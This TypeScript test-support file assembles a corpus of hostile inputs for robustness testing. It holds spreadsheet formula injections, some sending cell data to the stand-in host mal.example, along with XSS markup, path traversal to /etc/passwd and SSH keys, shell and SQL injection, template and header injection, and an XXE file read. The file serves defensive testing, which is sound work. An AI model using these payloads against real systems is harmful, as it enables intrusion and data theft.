import { hostileStrings } from '../support/hostile-strings.ts'

/**
 * What strangers may write, by whom it is meant for. Sources: the escapes as in `hostile-strings.ts`; formulas after OWASP's page on CSV
 * injection; markup after OWASP's and PortSwigger's lists of ways to run a script; names of files after what Windows, macOS and zip readers
 * are known to stumble over. Text that is one of a kind is written here, lists of combinations are made.
 */
export type HostileKind =
  | 'terminal'
  | 'formula'
  | 'markup'
  | 'markdown'
  | 'path'
  | 'shell'
  | 'sql'
  | 'template'
  | 'header'
  | 'json'
  | 'number'
  | 'unicode'
  | 'huge'

export interface Hostile {
  readonly kind: HostileKind
  readonly text: string
}

const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://mal.example/"&A1;"ici")',
  '=IMPORTXML("https://mal.example/";"//a")',
  '=WEBSERVICE("https://mal.example/"&A1)',
  '=IMAGE("https://mal.example/pixel.png")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u202F=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  '";=1+1',
  '";\n=1+1',
  "',=1+1",
  ';=1+1;',
  ',=1+1,',
  '%0A=1+1',
  '=-1',
  '-2+3+cmd',
  '+33 3 88 00 00 00',
  '- une liste',
  '@boulangerie',
  '=é',
]

const payload = 'alert(1)'
const markup: readonly string[] = [
  `<script>${payload}</script>`,
  `<ScRiPt >${payload}</sCrIpT >`,
  `<script src=//mal.example/x.js>`,
  `</script><script>${payload}</script>`,
  `</style><script>${payload}</script>`,
  `</title><script>${payload}</script>`,
  `</textarea><script>${payload}</script>`,
  `--><script>${payload}</script>`,
  `]]><script>${payload}</script>`,
  `<!--[if gte IE 4]><script>${payload}</script><![endif]-->`,
  `<img src=x onerror=${payload}>`,
  `<img src="x" onerror="${payload}"`,
  `<img/src=x/onerror=${payload}>`,
  `<img src=\`x\` onerror=${payload}>`,
  `<svg onload=${payload}>`,
  `<svg><script>${payload}</script></svg>`,
  `<svg><animate onbegin=${payload} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${payload}'/></svg>#x">`,
  `<math><mi//xlink:href="javascript:${payload}">`,
  `<body onload=${payload}>`,
  `<iframe src="javascript:${payload}">`,
  `<iframe srcdoc="<script>${payload}</script>">`,
  `<object data="data:text/html,<script>${payload}</script>">`,
  `<embed src="javascript:${payload}">`,
  `<a href="javascript:${payload}">ici</a>`,
  `<a href="java&#x0A;script:${payload}">ici</a>`,
  `<a href=" javascript:${payload}">ici</a>`,
  `<a href="data:text/html,<script>${payload}</script>">ici</a>`,
  `<a href="vbscript:msgbox(1)">ici</a>`,
  `<form action="https://mal.example/"><button>Valider</button></form>`,
  `<button formaction="javascript:${payload}">x</button>`,
  `<input autofocus onfocus=${payload}>`,
  `<details open ontoggle=${payload}>`,
  `<video><source onerror=${payload}></video>`,
  `<link rel=stylesheet href=https://mal.example/x.css>`,
  `<style>@import url(https://mal.example/x.css);</style>`,
  `<style>*{background:url(https://mal.example/x)}</style>`,
  `<div style="background:url(https://mal.example/x)">`,
  `<base href="https://mal.example/">`,
  `<meta http-equiv=refresh content="0;url=https://mal.example/">`,
  `<template><script>${payload}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  `"><script>${payload}</script>`,
  `'><script>${payload}</script>`,
  `" onmouseover="${payload}`,
  `' onmouseover='${payload}`,
  `\` onmouseover=${payload}`,
  `x" autofocus onfocus="${payload}`,
  `&lt;script&gt;${payload}&lt;/script&gt;`,
  `&#60;script&#62;${payload}&#60;/script&#62;`,
  `＜script＞${payload}＜/script＞`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${payload}</x:script>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<plaintext>`,
  `<table><tr><td>`,
  `</td></tr></table></body></html>`,
  `<a id=location><a id=location name=href>`,
  `<!--`,
  `<![CDATA[`,
]

const markdown: readonly string[] = [
  `[ici](javascript:${payload})`,
  `[ici](JaVaScRiPt:${payload})`,
  `[ici](java\nscript:${payload})`,
  `[ici](data:text/html;base64,PHNjcmlwdD4=)`,
  `[ici](<javascript:${payload}>)`,
  `[ici]: javascript:${payload}`,
  `<javascript:${payload}>`,
  '![](https://mal.example/pixel.png)',
  '![x](//mal.example/x "=1+1")',
  '[banque.example](https://mal.example/)',
  '`` ` ``',
  '```\n</code></pre><script>\n```',
  '| a | b |\n| --- |',
  '# Titre\n\n---\n\n> cité',
  '1. \n\n    code',
  '*'.repeat(60),
  '['.repeat(60),
  '> '.repeat(60),
  '\\<script\\>',
  '---\ntitle: faux\n---\n',
]

const paths: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '\\\\mal.example\\share\\x',
  'file:///etc/passwd',
  '~/.ssh/id_ed25519',
  '.',
  '..',
  '....//....//etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  '..%c0%afetc/passwd',
  'con',
  'NUL.txt',
  'aux.html',
  'COM1',
  'nom.',
  'nom ',
  '.htaccess',
  '.git/config',
  'a:b',
  'a/b',
  'x::$DATA',
  '-rf',
  '--output=/tmp/x',
  'nom\nde\nfichier',
  'é'.normalize('NFD'),
  'x'.repeat(260),
]

const shells: readonly string[] = [
  '$(touch pwned)',
  '`touch pwned`',
  ';touch pwned;',
  '&& touch pwned',
  '| touch pwned',
  '|| touch pwned',
  '& touch pwned',
  '\ntouch pwned\n',
  '> pwned',
  "'; touch pwned; '",
  '"; touch pwned; "',
  '${IFS}touch${IFS}pwned',
  '$HOME',
  '%COMSPEC%',
  '!!',
  '-o ProxyCommand=touch pwned',
  '--help',
  '--yes',
  '--home=/tmp/autre',
  '-c autre',
  '--',
]

const sql: readonly string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE posts; --",
  "1' UNION SELECT value FROM secrets --",
  '" OR ""="',
  "%' OR name LIKE '%",
  '?1 :a @b $c',
  "\\'; --",
  '*/ OR 1=1 /*',
]

const templates: readonly string[] = [
  '{name}',
  '{{constructor.constructor("return process")()}}',
  '${process.exit(1)}',
  '<%= process.env %>',
  '#{7*7}',
  '{% import os %}',
  '%s%s%s%n%x%d',
  '{0}{1}{2}',
  "$1$&$`$'$$",
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '#read("/etc/passwd")',
  '#import "@preview/x:1.0.0"',
  '$x^2$',
  '\\input{/etc/passwd}',
]

const headers: readonly string[] = [
  'x\r\nBcc: autre@mal.example',
  'x\nBcc: autre@mal.example',
  'x\rBcc: autre@mal.example',
  'x%0d%0aBcc: autre@mal.example',
  'x\r\n\r\n<script>',
  'x\u0000y',
  'autre@mal.example, tous@mal.example',
  '"a\\"b"@mal.example',
  '<autre@mal.example>',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE',
  'x\nDTSTART:19700101T000000Z',
  'x;y,z\\n',
  'x\u2028y\u2029z',
  'x\u0085y',
]

const jsons: readonly string[] = [
  '{"__proto__":{"polluted":true}}',
  '"}],"posts":[{',
  '\\u0000\\u001b[2J',
  '\\"',
  'null',
  'true',
  '[]',
  '{}',
  '['.repeat(500),
  '{"a":'.repeat(100),
]

const numbers: readonly string[] = [
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  '0x10',
  '１２３',
  '٣',
  '1,234.5',
  '1 234,5',
  '12:60',
  '31/02/2026',
  '0000-00-00',
  '2026-11-31T25:61:61Z',
]

const unicode: readonly string[] = [
  '\uD800',
  '\uDFFF',
  'a\uD83D',
  '\uDE00b',
  '\uFFFD',
  '\uFFFE',
  '\uFFFF',
  '\u{10FFFF}',
  '\uE000',
  'ﬁ ﬀ ſ İ ı ß ẞ',
  'ѕmm ехаmple',
  'e\u0301'.repeat(5),
  'Z' + '\u0335\u0353\u0329'.repeat(40),
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇫🇷',
  '\u3164\uFFA0\u115F',
  '\u00A0\u2003\u3000',
  'ﷺ﷽',
  '𝔣𝔞𝔲𝔵',
  '☃'.repeat(30),
  'مرحبا abc שלום',
]

const huge: readonly string[] = [
  'x'.repeat(20_000),
  'mot '.repeat(5_000),
  '\n'.repeat(5_000),
  '😀'.repeat(5_000),
  '"'.repeat(5_000),
  '<'.repeat(5_000),
  'a'.repeat(5_000) + '!',
  'a@'.repeat(2_000),
  `https://mal.example/${'a/'.repeat(3_000)}`,
  '#mot '.repeat(2_000),
]

const of = (kind: HostileKind, texts: readonly string[]): Hostile[] => texts.map((text) => ({ kind, text }))

/** At least 300; a test counts them. */
export const corpus: readonly Hostile[] = [
  ...of('terminal', hostileStrings),
  ...of('formula', formulas),
  ...of('markup', markup),
  ...of('markdown', markdown),
  ...of('path', paths),
  ...of('shell', shells),
  ...of('sql', sql),
  ...of('template', templates),
  ...of('header', headers),
  ...of('json', jsons),
  ...of('number', numbers),
  ...of('unicode', unicode),
  ...of('huge', huge),
]

/** Not text at all: what a file or an answer may hold instead of UTF-8. */
export const notUtf8: readonly Uint8Array[] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0x80],
  [0xc3],
  [0x61, 0xe2, 0x82],
  [0x00],
  [0x1f, 0x8b, 0x08, 0x00],
  [0x9b, 0x32, 0x4a],
].map((bytes) => Uint8Array.from(bytes))
